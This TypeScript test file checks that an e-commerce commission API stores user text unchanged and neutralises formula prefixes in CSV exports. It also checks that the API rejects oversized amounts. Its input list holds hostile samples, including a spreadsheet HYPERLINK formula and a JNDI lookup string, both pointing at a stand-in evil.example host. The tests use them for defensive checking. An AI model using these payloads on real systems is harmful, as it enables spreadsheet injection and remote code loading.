import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { productInput, storeInput } from '../catalog/catalog-server.ts';
import { type AbuseApp, openAbuseApp } from './abuse-app.ts';
import { send } from './client.ts';
import { makeMarket, type Market } from './market.ts';
import { shopMessage } from './sell.ts';

/** What a person typed comes back as it was typed, in JSON and in a spreadsheet, where it never becomes a formula. */
const TEXTS: readonly string[] = [
  '手冲壶 大号',
  '🫖👨‍👩‍👧‍👦🇨🇳',
  '\u202eעברית مرحبا\u202c',
  'e\u0301 と が',
  '"quoted", and; \'more\' \\"',
  "'already quoted",
  'one,two;three\tfour',
  '=HYPERLINK("https://evil.example","壶")',
  '+86 138',
  '-1+1',
  '@SUM(A1:A9)',
  '＝１＋１',
  '＠ＳＵＭ',
  '%3D1+1',
  '<b>壶</b>&amp;',
  '{"a":[1]}',
  '${jndi:ldap://evil.example}',
  '007',
  '1e3',
  'null',
  'NaN',
  'a\u2028b\u2029c\ufeffd',
  '\u200b壶\u200d',
  '\ud83e\uded6'.repeat(20),
];
/** With line breaks, which some names do not allow. */
const LONGER = [...TEXTS, 'first line\nsecond line\r\n=third()'];
const FORMULA = /^\s*[=+\-@＝＋－＠]/;

let abuse: AbuseApp;
let market: Market;

beforeAll(async () => {
  abuse = await openAbuseApp();
  market = await makeMarket(abuse);
});
afterAll(async () => {
  await abuse.close();
});

type Row = Record<string, unknown>;

/** The cells of a CSV text as RFC 4180 has them, by the names in its first line. */
function parseCsv(text: string): Record<string, string>[] {
  expect(text.startsWith('\ufeff')).toBe(true);
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text.slice(1).matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy)) {
    rows.at(-1)?.push(quoted === undefined ? (plain ?? '') : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  const [names = [], ...cells] = rows;
  return cells
    .filter((row) => row.length === names.length)
    .map((row) => Object.fromEntries(names.map((name, index) => [name, row[index] ?? ''])));
}

async function list(url: string, accept: string): Promise<string> {
  const headers = { ...market.headers.admin, accept };
  const answer = await send(abuse, { method: 'GET', url: `${url}?limit=200`, headers });
  expect(answer).toMatchObject({ statusCode: 200 });
  return answer.body;
}

async function post(url: string, body: object): Promise<Row> {
  const headers = { ...market.headers.admin, 'content-type': 'application/json' };
  const answer = await send(abuse, { method: 'POST', url, headers, payload: JSON.stringify(body) });
  expect({ body, answer }).toMatchObject({ answer: { statusCode: 201 } });
  return JSON.parse(answer.body) as Row;
}

/** Address, field, texts, and the body that holds one of them. */
const FIELDS: readonly [string, string, readonly string[], (text: string) => object][] = [
  ['/v1/brands', 'name', LONGER, (name) => ({ name })],
  ['/v1/payees', 'name', LONGER, (name) => ({ name })],
  ['/v1/influencers', 'name', LONGER, (name) => ({ name })],
  ['/v1/influencers', 'douyinId', LONGER, (douyinId) => ({ name: '小美', douyinId })],
  ['/v1/influencers', 'tier', LONGER.filter((text) => text.length <= 50), (tier) => ({ name: '小美', tier })],
  ['/v1/stores', 'name', LONGER, (name) => storeInput({ brandId: market.a.brand, name })],
  ['/v1/stores', 'externalShopId', LONGER, (externalShopId) => storeInput({ brandId: market.a.brand, externalShopId })],
  ['/v1/products', 'title', LONGER, (title) => productInput(market.a.store, { title })],
  [
    '/v1/tracking-slots',
    'externalId',
    LONGER,
    (externalId) => ({
      storeId: market.a.store,
      kind: 'relation',
      externalId,
      influencerId: market.own.influencer,
    }),
  ],
];

describe('a text comes back as it went in', () => {
  it.each(FIELDS)('%s %s', async (url, field, texts, body) => {
    const made = new Map<string, string>();
    for (const text of texts) {
      const answer = await post(url, body(text));
      expect(answer[field]).toBe(text);
      made.set(String(answer['id']), text);
    }
    const listed = (JSON.parse(await list(url, 'application/json')) as { data: Row[] }).data;
    const cells = parseCsv(await list(url, 'text/csv'));
    for (const [id, text] of made) {
      expect(listed.find((row) => row['id'] === id)?.[field]).toBe(text);
      const cell = cells.find((row) => row['id'] === id)?.[field];
      expect(cell).toBe(FORMULA.test(text) ? `'${text}` : text);
    }
  });

  it('the label of a key', async () => {
    for (const label of LONGER) {
      const { id } = await post('/v1/keys', { role: 'finance', label });
      const { data } = JSON.parse(await list('/v1/keys', 'application/json')) as { data: Row[] };
      expect(data.find((row) => row['id'] === id)?.['label']).toBe(label);
    }
  });

  it('the numbers a shop gives its orders and lines', async () => {
    // A shop's numbers hold no control characters.
    const texts = TEXTS.filter((text) => !text.includes('\t'));
    for (const orderId of texts) {
      const line = { lineId: orderId, itemId: market.a.itemId, quantity: 1, paidFen: 100 };
      const body = { type: 'order.paid', orderId, occurredAt: new Date().toISOString(), version: 1, lines: [line] };
      const url = `/hooks/shops/${market.a.store}`;
      const answer = await send(abuse, { method: 'POST', url, ...shopMessage(market.a, JSON.stringify(body)) });
      expect(answer).toMatchObject({ statusCode: 200 });
    }
    const { data } = JSON.parse(await list('/v1/orders', 'application/json')) as {
      data: { externalOrderId: string; lines: { externalLineId: string }[] }[];
    };
    const cells = parseCsv(await list('/v1/orders', 'text/csv'));
    for (const text of texts) {
      const order = data.find(({ externalOrderId }) => externalOrderId === text);
      expect(order?.lines.map(({ externalLineId }) => externalLineId)).toEqual([text]);
      const shown = FORMULA.test(text) ? `'${text}` : text;
      expect(cells.filter((row) => row['externalOrderId'] === shown && row['externalLineId'] === shown)).toHaveLength(
        1,
      );
    }
  });
});

describe('the largest amounts that are taken', () => {
  it('do not break what adds them up', async () => {
    const sold = (orderId: string, paidFen: number): object => ({
      type: 'order.paid',
      orderId,
      occurredAt: new Date().toISOString(),
      version: 1,
      lines: [{ lineId: '1', itemId: market.a.itemId, quantity: 1_000_000, paidFen, couponCode: market.a.couponCode }],
    });
    const refunded = (refundId: string, refundedFen: number): object => ({
      type: 'order.refunded',
      orderId: 'HUGE-1',
      occurredAt: new Date().toISOString(),
      version: 1,
      refund: { refundId, lines: [{ lineId: '1', refundedFen }] },
    });
    const url = `/hooks/shops/${market.a.store}`;
    const take = async (event: object): Promise<number> =>
      (await send(abuse, { method: 'POST', url, ...shopMessage(market.a, JSON.stringify(event)) })).statusCode;
    const largest = 10_000_000_000;
    for (const amount of [largest + 1, Number.MAX_SAFE_INTEGER]) {
      expect(await take(sold('TOO-MUCH', amount))).toBe(400);
      expect(await take(refunded('TOO-MUCH', amount))).toBe(400);
    }
    for (const number of [1, 2, 3]) expect(await take(sold(`HUGE-${number}`, largest))).toBe(200);
    for (const number of [1, 2, 3]) expect(await take(refunded(`R-${number}`, largest))).toBe(200);
    await post(
      '/v1/products',
      productInput(market.a.store, { priceFen: 2 ** 53 - 1, commission: { flatFen: 2 ** 53 - 1 } }),
    );
    await post('/v1/products', productInput(market.a.store, { priceFen: 2 ** 53 - 1, commission: { rateBp: 9_000 } }));

    const reads = [
      ['finance', '/v1/orders'],
      ['finance', '/v1/commissions'],
      ['finance', '/v1/commissions/totals?groupBy=influencer,product,month'],
      ['finance', '/v1/journal'],
      ['finance', `/v1/links/${market.own.code}/stats`],
      ['finance', `/v1/payees/${market.own.payee}/balance`],
      ['brand', '/v1/products'],
      ...['newest', 'rate', 'commission', 'price'].map((sort) => ['influencer', `/v1/products?sort=${sort}`] as const),
    ] as const;
    for (const [caller, read] of reads) {
      const answer = await send(abuse, { method: 'GET', url: read, headers: market.headers[caller] });
      expect({ read, answer }).toMatchObject({ answer: { statusCode: 200 } });
    }
  });
});
